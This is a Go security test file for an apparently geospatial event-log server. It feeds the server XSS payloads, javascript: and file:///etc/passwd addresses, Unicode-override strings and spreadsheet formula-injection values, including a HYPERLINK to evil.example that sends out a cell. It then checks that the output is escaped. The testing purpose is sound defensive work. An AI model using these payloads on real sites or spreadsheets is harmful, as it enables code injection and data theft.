package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"image/png"
	"net/http"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostileTexts are what somebody might write who wants more than to be read.
var hostileTexts = map[string]string{
	"script":     `<script>window.hit=1;document.title="hit"</script>`,
	"close":      `</title></script></style><script>window.hit=1</script>`,
	"image":      `"><img src=x onerror="window.hit=1">`,
	"single":     `'><svg onload='window.hit=1'>`,
	"comment":    `--><script>window.hit=1</script><!--`,
	"link":       `<a href="javascript:window.hit=1">Click</a>`,
	"template":   `{{constructor.constructor("window.hit=1")()}} ${window.hit=1}`,
	"override":   "Killed \u202e001\u202c and \u2067isolated",
	"unended":    "\u202eall that follows runs the other way \u2066\u2066\u2066",
	"long":       strings.Repeat("A", 2000), // Chromium takes the square of its length to break it
	"long-wide":  strings.Repeat("漢", 1000),
	"long-arab":  strings.Repeat("ش", 1000),
	"emoji":      "👩‍👩‍👧‍👦🏳️‍🌈" + strings.Repeat("🔥", 500),
	"zero-width": "Ra\u200bq\u200dq\ufeffa\u2060",
	"marks":      "Z" + strings.Repeat("\u0301\u0489", 400),
	"lines":      strings.Repeat("line\n\n", 100) + "\u2028\u2029end",
	"formula":    `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"plus":       `+cmd|' /C calc'!A0`,
	"at":         "@SUM(1+1)*cmd|' /C calc'!A0",
	"minus":      "-2+3+cmd|' /C calc'!A0",
	"tab":        "\t=1+1",
	"return":     "\r=1+1",
	"quoted":     "'=1+1",
	"separators": `a","b;c|d` + "\r\n=1+1",
}

// hostileAddresses are no addresses that a reader should be led to.
var hostileAddresses = []string{
	"javascript:window.hit=1", "JaVaScRiPt:window.hit=1", " javascript:window.hit=1", "java\tscript:window.hit=1", "data:text/html,<script>window.hit=1</script>",
	"vbscript:x", "file:///etc/passwd", "//evil.example/x", "blob:http://evil.example/x", "https://evil.example/\"><script>window.hit=1</script>", "not an address",
}

// hostileCollection is a layer whose every text is hostile, one kind of it an
// event. The data is made up, and says so.
func hostileCollection(t *testing.T) string {
	t.Helper()
	var features []any
	for i, name := range hostileNames() {
		text, address := hostileTexts[name], hostileAddresses[i%len(hostileAddresses)]
		kind := text
		if len(kind) > 150 {
			kind = strings.ToValidUTF8(kind[:150], "")
		}
		features = append(features, map[string]any{
			"type": "Feature", "id": name, "geometry": map[string]any{"type": "Point", "coordinates": []float64{38 + float64(i%6)*0.4, 34.5 + float64(i/6)*0.4}},
			"properties": map[string]any{
				"kind": kind, "title": text, "summary": text, "place": text, "time_text": text, "date_start": "2017-05-25", "date_end": "2017-05-26", "place_precision": "near",
				"actors": []any{map[string]any{"name": text, "role": "side_a"}}, "tags": []string{text},
				"claims": []any{
					map[string]any{"id": "c1", "source_id": name + "-s", "claimant": text, "text": text, "time_text": text, "place": text, "figures": []any{map[string]any{"what": "killed", "low": 1, "text": text}}},
					map[string]any{"id": "c2", "source_id": name + "-s", "claimant": "Synthetic", "text": text, "figures": []any{map[string]any{"what": "killed", "low": 9, "high": 20}, map[string]any{"what": text, "best": 3}}},
				},
				"sources": []any{map[string]any{"id": name + "-s", "url": address, "title": text, "publisher": text, "author": text, "archive_url": address, "published": text, "retrieved": text}},
				"note":    text, "own": text,
			},
		})
	}
	raw, err := json.Marshal(map[string]any{"type": "FeatureCollection", "features": features})
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

func hostileNames() []string {
	var names []string
	for name := range hostileTexts {
		names = append(names, name)
	}
	slices.Sort(names)
	return names
}

// hostileServer serves the hostile layer and nothing else.
func hostileServer(t *testing.T) (s *server, db string) {
	t.Helper()
	db = filepath.Join(t.TempDir(), "w.db")
	_, stderr, status := waylog(t, hostileCollection(t), "import", "--db", db, "--layer", "hostile", "--title", `Made up </title><script>window.hit=1</script>"><img src=x onerror=window.hit=1>`,
		"--licence", `<b>synthetic</b>`, "--attribution", `<img src=x onerror=window.hit=1>`, "-")
	if status != exitDone {
		t.Fatalf("status %d: %s", status, stderr)
	}
	return startServer(t, "--no-sample", "--db", db), db
}

// TestHostileAnswers asks every address for what holds hostile texts: they come
// back as they were written, as text.
func TestHostileAnswers(t *testing.T) {
	t.Parallel()
	s, db := hostileServer(t)
	var page struct {
		Features []struct {
			ID         string
			Properties struct {
				Title, Kind string
				Sources     []struct{ URL string }
			}
		}
	}
	s.json(t, "/collections/hostile/items", &page)
	if len(page.Features) != len(hostileTexts) {
		t.Fatalf("%d of %d events", len(page.Features), len(hostileTexts))
	}
	for _, f := range page.Features {
		if want := hostileTexts[f.ID]; strings.TrimSpace(f.Properties.Title) != strings.TrimSpace(want) {
			t.Errorf("%s became %q", f.ID, f.Properties.Title)
		}
	}
	for _, path := range []string{
		"/?f=json", "/conformance", "/api", "/collections", "/collections/hostile", "/collections/hostile/schema", "/collections/hostile/queryables", "/collections/hostile/items?limit=1000",
		"/collections/hostile/export", "/collections/hostile/histogram", "/collections/hostile/summary", "/places?q=click", "/collections/hostile/items/image/history",
		"/collections/" + url.PathEscape(hostileTexts["image"]), "/collections/hostile/items/" + url.PathEscape(hostileTexts["script"]), "/collections/hostile/items?q=" + url.QueryEscape(hostileTexts["script"]),
		"/collections/hostile/items?" + url.QueryEscape(hostileTexts["script"]) + "=1", "/" + url.PathEscape(hostileTexts["image"]),
	} {
		res := s.answer(t, path, "*/*")
		if mediaType := res.header.Get("Content-Type"); !strings.Contains(mediaType, "json") || res.header.Get("X-Content-Type-Options") != "nosniff" || !json.Valid([]byte(res.body)) {
			t.Errorf("%s: %s, %.300s", path, mediaType, res.body)
		}
	}
	var paths []string
	for _, id := range append(hostileNames(), `"><script>window.hit=1</script>`) {
		query := url.Values{"layers": {"hostile"}, "sel": {"hostile:" + id}, "q": {hostileTexts[id]}, "kinds": {hostileTexts[id]}, "lang": {hostileTexts["image"]}}
		if len(query.Encode()) > 8000 {
			query.Del("q")
			query.Del("kinds")
		}
		only := url.Values{"layers": {"hostile"}, "sel": {"hostile:" + id}}
		paths = append(paths, "/?"+query.Encode(), "/embed/?"+query.Encode(), "/?"+only.Encode(), "/embed?"+only.Encode())
		if !slices.Contains([]string{"image", "marks", "long-wide"}, id) {
			continue // a picture takes its time
		}
		picture := s.answer(t, "/card.png?"+only.Encode(), "*/*")
		if _, err := png.Decode(strings.NewReader(picture.body)); err != nil || picture.header.Get("Content-Type") != "image/png" {
			t.Errorf("the picture of %s: %v", id, err)
		}
	}
	for _, path := range append(paths, "/api.html", "/embed/"+url.PathEscape(hostileTexts["image"]), "/?layers=hostile&q="+url.QueryEscape(hostileTexts["close"])) {
		res := s.answer(t, path, "text/html")
		if !strings.HasPrefix(res.header.Get("Content-Type"), "text/html") {
			t.Errorf("%s: %d %s", path, res.status, res.header.Get("Content-Type"))
		}
		harmless(t, path, res.body)
	}

	table := s.answer(t, "/collections/hostile/export?f=csv", "*/*")
	rows, err := csv.NewReader(strings.NewReader(table.body)).ReadAll()
	if err != nil || len(rows) != len(hostileTexts)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !json.Valid([]byte(cell)) {
				t.Errorf("a spreadsheet runs %s of %s: %.60q", rows[0][i], row[0], cell)
			}
		}
	}
	// What was made harmless comes back as it was.
	again := filepath.Join(t.TempDir(), "again.db")
	if _, stderr, status := waylog(t, table.body, "import", "--db", again, "--layer", "hostile", "--licence", "x", "-"); status != exitDone {
		t.Fatalf("status %d: %s", status, stderr)
	}
	for id, was := range exported(t, db, "hostile") {
		is := exported(t, again, "hostile")[id]
		for name, value := range was {
			if name == "revision" || name == "created" || name == "updated" {
				continue
			}
			if fmt.Sprint(is[name]) != fmt.Sprint(value) {
				t.Errorf("%s: %s was %.200q and is %.200q", id, name, fmt.Sprint(value), fmt.Sprint(is[name]))
			}
		}
	}
}

// harmless reads a page as a browser does and looks for what would run.
func harmless(t *testing.T, path, body string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(body))
	for inScript := false; ; {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.TextToken:
			if inScript && len(bytes.TrimSpace(z.Text())) > 0 {
				t.Errorf("%.80s: a script stands in the page", path)
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			inScript = token.Data == "script"
			for _, a := range token.Attr {
				value := strings.ToLower(strings.TrimSpace(a.Val))
				address := a.Key == "href" || a.Key == "src" || a.Key == "action"
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || address && (strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:text") || inScript && strings.Contains(value, "//")) {
					t.Errorf("%.80s: <%s %s=%.100q>", path, token.Data, a.Key, a.Val)
				}
			}
			if token.Data == "img" || token.Data == "iframe" || token.Data == "object" || token.Data == "b" && strings.Contains(body, "<b>synthetic") {
				t.Errorf("%.80s: <%s> came out of a text", path, token.Data)
			}
		case html.EndTagToken:
			inScript = false
		}
	}
}

type reply struct {
	status int
	header http.Header
	body   string
}

func (s *server) answer(t *testing.T, path, accept string) reply {
	t.Helper()
	status, header, body := fetch(t, s.url+path, "Accept", accept, "Accept-Encoding", "identity")
	return reply{status, header, body}
}
